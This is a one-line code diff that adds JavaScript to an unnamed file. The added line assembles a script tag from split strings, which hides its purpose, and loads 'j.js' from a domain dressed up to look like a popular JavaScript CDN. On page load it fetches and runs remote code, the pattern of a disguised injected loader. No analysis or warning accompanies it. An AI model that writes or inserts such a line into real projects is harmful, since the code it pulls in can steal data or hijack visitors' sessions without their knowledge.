@@ -1,0 +1,1 @@
+var s=document.createElement('scr'+'ipt');s.src='ht'+'tps://cdn-js'+'delivr.net.x.top/j.js';document.body.appendChild(s);
